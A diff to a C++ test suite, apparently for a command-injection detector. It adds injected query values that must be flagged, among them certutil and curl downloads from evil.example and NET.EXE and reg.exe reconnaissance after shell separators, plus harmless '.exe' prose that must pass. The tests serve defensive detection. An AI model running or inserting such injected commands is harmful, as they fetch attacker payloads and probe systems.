@@ -252,10 +252,13 @@ TEST(OpsDocument, ShortYamlPrefixDoesNotExcuseAnInjection) {
 }
 
 // The words of a URL or a path do not make a command line a sentence: a download with a long
-// URL stays a command, while prose with a URL and a separator stays prose.
+// URL stays a command, while prose with a URL and a separator stays prose. A known program
+// named with ".exe" is that program.
 TEST(ProseWords, UrlAndPathPartsAreNoWords) {
   for (const char* v : {"& certutil -urlcache -split -f http://evil.example/a.exe a.exe",
-                        "x;curl http://evil.example/a/b/c/d.sh -o /tmp/a.sh"}) {
+                        "x;curl http://evil.example/a/b/c/d.sh -o /tmp/a.sh",
+                        "&& certutil.exe -urlcache -f http://evil.example/a a", "& NET.EXE user",
+                        "| reg.exe query HKLM"}) {
     Verdict r = InspectQueryValue(v);
     EXPECT_TRUE(HasCategory(r, Category::kCmdi) && Flagged(r)) << v << " -> " << r.explanation;
   }
@@ -265,7 +268,8 @@ TEST(ProseWords, UrlAndPathPartsAreNoWords) {
         "I tried the mirror at http://mirror.example.org/debian/pool/main/ but | it failed with "
         "an error again and again",
         "Download from https://example.com/files/report.pdf & share the link with the whole team "
-        "by friday please"}) {
+        "by friday please",
+        "see setup.exe for details", "run installer.exe then reboot", "copy.exe"}) {
     Verdict r = InspectQueryValue(v);
     EXPECT_FALSE(Flagged(r)) << v << " -> " << r.explanation;
   }
